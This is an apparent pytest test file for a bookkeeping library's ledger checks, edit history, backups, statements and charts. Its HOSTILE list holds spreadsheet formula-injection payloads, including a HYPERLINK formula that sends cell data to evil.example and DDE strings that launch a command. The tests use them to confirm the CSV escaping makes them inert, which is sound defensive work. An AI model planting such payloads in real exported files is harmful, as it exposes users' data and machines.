"""Keeping the books: ledger checks, history, spreadsheet-safe files, statements, charts."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest

from mlmkit._validation import MlmkitInputError
from mlmkit.books import (
    Books,
    add_transaction,
    category_totals,
    export_csv,
    load_books,
    load_ledger,
    make_ledger,
    monthly_statement,
    read_entries_csv,
    save_books,
    save_ledger,
    spreadsheet_escape,
    spreadsheet_unescape,
    update_books,
)
from mlmkit.charts.books import by_period, monthly_results, spending_by_category
from mlmkit.datasets import data_path

ROWS = [
    ("2026-01-03", "entry_fee", 49.0, "join"),
    ("2026-01-03", "starter_kit", 199.0, ""),
    ("2026-01-20", "retail_sales", 80.0, "3 customers"),
    ("2026-03-02", "commissions", 35.5, ""),
    ("2026-03-05", "required_purchases", 120.0, "autoship"),
]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'plain apostrophe",
    "ordinary note, with a comma and \"quotes\"",
    "line one\nline two",
]


def test_statement_adds_up_and_fills_empty_months():
    statement = monthly_statement(make_ledger(ROWS))
    assert statement["month"].tolist() == ["2026-01", "2026-02", "2026-03"]
    assert statement["income_usd"].tolist() == [80.0, 0.0, 35.5]
    assert statement["expenses_usd"].tolist() == [248.0, 0.0, 120.0]
    assert statement["cumulative_net_usd"].iloc[-1] == pytest.approx(80 + 35.5 - 49 - 199 - 120)
    assert statement["retail_share_of_income"].iloc[0] == 1.0
    assert statement["retail_share_of_income"].iloc[2] == 0.0


@pytest.mark.parametrize(
    ("row", "field", "words"),
    [
        (("2026-13-01", "travel", 5.0), "row 1: date", "YYYY-MM-DD"),
        (("2026-02-30", "travel", 5.0), "row 1: date", "a real day"),
        (("1026-01-05", "travel", 5.0), "row 1: date", "typo"),
        (("2206-01-05", "travel", 5.0), "row 1: date", "typo"),
        (("2026-01-01", "vacation", 5.0), "row 1: category", "use one of"),
        (("2026-01-01", "travel", -5.0), "row 1: amount_usd", "never negative"),
        (("2026-01-01", "travel", "-5"), "row 1: amount_usd", "never negative"),
        (("2026-01-01", "travel", "five"), "row 1: amount_usd", "written as a number"),
        (("2026-01-01", "travel", float("nan")), "row 1: amount_usd", "written as a number"),
        (("2026-01-01", "travel", 1e12), "row 1: amount_usd", "10,000,000"),
        (("2026-01-01", "travel", 5.0, "bad \ud800 note"), "row 1: note", "lone surrogate"),
    ],
)
def test_bad_rows_name_row_field_and_value(row, field, words):
    with pytest.raises(MlmkitInputError) as error:
        make_ledger([row])
    assert error.value.field == field
    assert words in str(error.value)


def test_the_fourth_entry_is_row_4_wherever_it_is_checked(tmp_path):
    rows = [*ROWS[:3], ("2026-01-32", "travel", 5.0, "")]
    with pytest.raises(MlmkitInputError, match=r"^row 4: date = '2026-01-32'"):
        make_ledger(rows)
    with pytest.raises(MlmkitInputError, match=r"^row 4: date"):
        add_transaction(make_ledger(ROWS[:3]), "2026-01-32", "travel", 5.0)
    with pytest.raises(MlmkitInputError, match=r"^row 4: note"):
        Books.from_entries(ROWS[:3]).add("2026-01-05", "travel", 5.0, "x\udfff")
    path = tmp_path / "typed.csv"
    path.write_text("date,category,amount_usd,note\n" + "2026-01-01,travel,1,\n" * 3 + "2026-01-01,travel,-4,\n")
    with pytest.raises(MlmkitInputError, match=r"^typed.csv: row 4: amount_usd = '-4'"):
        load_ledger(path)


def test_amounts_typed_with_separators_and_currency_are_read():
    ledger = make_ledger([("2026-01-01", "commissions", "1,200.50"), ("2026-01-02", "travel", "USD 12")])
    assert ledger["amount_usd"].tolist() == [1200.5, 12.0]


def test_spreadsheet_escaping_is_exact_and_inert(tmp_path):
    for text in HOSTILE:
        assert spreadsheet_unescape(spreadsheet_escape(text)) == text
        assert not spreadsheet_escape(text).startswith(("=", "+", "-", "@", "\t", "\r"))
    books = Books.from_entries([("2026-01-01", "travel", 1.0, text) for text in HOSTILE])
    path = tmp_path / "hostile.csv"
    save_books(books, path)
    with path.open(newline="", encoding="utf-8") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert load_books(path).equals(books)
    assert load_ledger(path)["note"].tolist() == HOSTILE
    export_csv(books, tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as stream:
        exported = list(csv.DictReader(stream))
    assert [row["note"] for row in exported] == [spreadsheet_escape(text) for text in HOSTILE]
    assert read_entries_csv(tmp_path / "out.csv")["note"].tolist() == HOSTILE


def test_edit_delete_restore_keep_every_version_through_the_file(tmp_path):
    books = Books.from_entries(ROWS)
    books = books.edit(2, amount_usd=99.0, note="kit on sale", when="2026-04-01T10:00:00Z")
    books = books.delete(4, when="2026-04-02T10:00:00Z")
    books = books.add("2026-04-03", "travel", 8.0, "bus", when="2026-04-03T10:00:00Z")
    assert len(books) == 5
    assert sorted(books.entries["entry_id"]) == [1, 2, 3, 5, 6]
    assert books.entries.set_index("entry_id").loc[2, "amount_usd"] == 99.0
    versions = books.versions(2)
    assert versions["amount_usd"].tolist() == [199.0, 99.0]
    assert versions["status"].tolist() == ["replaced", "current"]
    assert books.versions(4)["status"].tolist() == ["replaced", "deleted"]
    path = tmp_path / "b.csv"
    save_books(books, path)
    again = load_books(path)
    assert again.equals(books)
    pd.testing.assert_frame_equal(again.entries, books.entries)
    restored = again.restore(4, when="2026-04-04T10:00:00Z")
    assert 4 in set(restored.entries["entry_id"]) and len(restored.history) == 3
    with pytest.raises(MlmkitInputError, match="entry 4 is deleted"):
        books.edit(4, amount_usd=1)
    with pytest.raises(MlmkitInputError, match="no entry has this id"):
        books.delete(77)
    with pytest.raises(MlmkitInputError, match="^entry 2: amount_usd"):
        books.edit(2, amount_usd=-3)
    assert books.edit(2, amount_usd="99.00") is books  # nothing changed, no new version


def test_a_hand_edited_file_with_inconsistent_history_is_refused(tmp_path):
    path = tmp_path / "b.csv"
    save_books(Books.from_entries(ROWS[:2]).edit(1, amount_usd=5, when="t"), path)
    text = path.read_text().replace("replaced", "current")
    path.write_text(text)
    with pytest.raises(MlmkitInputError, match="b.csv: row 1: status"):
        load_books(path)


def test_save_keeps_numbered_backups_and_round_trips(tmp_path):
    path = tmp_path / "books.csv"
    first = make_ledger(ROWS[:2])
    save_ledger(first, path)
    second = add_transaction(first, "2026-02-01", "travel", 12.0, "mileage, 30 miles")
    save_ledger(second, path)
    third = add_transaction(second, "2026-02-02", "travel", 2.0)
    save_ledger(third, path)
    assert len(load_ledger(path)) == 4
    assert len(load_ledger(tmp_path / "books.1.csv")) == 3
    assert len(load_ledger(tmp_path / "books.2.csv")) == 2
    pd.testing.assert_frame_equal(load_ledger(path), third)


def test_old_plain_ledgers_still_load():
    ledger = load_ledger(data_path("books", "example_ledger.csv"))
    assert sorted(ledger["entry_id"]) == list(range(1, len(ledger) + 1)) and len(ledger) > 40
    assert ledger["date"].is_monotonic_increasing


def test_update_books_adds_under_the_lock(tmp_path):
    path = tmp_path / "u.csv"
    update_books(path, lambda books: books.add("2026-01-01", "travel", 1.0))
    saved = update_books(path, lambda books: books.edit(1, note="changed"))
    assert load_books(path).equals(saved)
    assert load_books(path).versions(1)["note"].tolist() == ["", "changed"]


def test_loading_a_bad_file_names_the_file_and_row(tmp_path):
    path = tmp_path / "bad.csv"
    path.write_text("date,category,amount_usd,note\n2026-01-01,travel,10,\n2026-01-02,travel,ten,\n")
    with pytest.raises(MlmkitInputError, match=r"bad.csv: row 2: amount_usd = 'ten'"):
        load_ledger(path)
    (tmp_path / "latin.csv").write_bytes("date,category,amount_usd,note\n2026-01-01,travel,1,caf\xe9\n".encode("latin-1"))
    with pytest.raises(MlmkitInputError, match="not UTF-8"):
        load_ledger(tmp_path / "latin.csv")
    with pytest.raises(MlmkitInputError, match="not a regular file"):
        load_ledger(tmp_path)


def test_charts_are_computed_from_the_ledger():
    ledger = make_ledger(ROWS)
    spec = monthly_results(ledger).to_dict()
    datasets = list(spec["datasets"].values())
    assert sum(len(rows) for rows in datasets) == 3 * 2 + 3
    totals = {row["category"]: row["amount_usd"] for row in list(spending_by_category(ledger).to_dict()["datasets"].values())[0]}
    assert totals == category_totals(ledger).set_index("category")["amount_usd"].to_dict()


def test_a_far_off_date_keeps_the_chart_small():
    rows = [("1950-01-05", "travel", 5.0), ("2099-12-01", "commissions", 9.0)]
    ledger = make_ledger(rows)
    assert len(monthly_statement(ledger)) == 150 * 12
    table = by_period(ledger)
    assert len(table) == 150 and table["net_usd"].sum() == pytest.approx(4.0)
    spec = monthly_results(ledger).to_dict()  # no MaxRowsError
    assert max(len(rows) for rows in spec["datasets"].values()) <= 300
    assert spec["title"]["text"].endswith("year by year")


def test_statement_and_totals_accept_books():
    books = Books.from_entries(ROWS).delete(5, when="t")
    assert monthly_statement(books)["expenses_usd"].sum() == pytest.approx(49 + 199)
    assert category_totals(books)["category"].tolist().count("required_purchases") == 0
    assert np.isclose(books.entries["amount_usd"].sum(), 49 + 199 + 80 + 35.5)
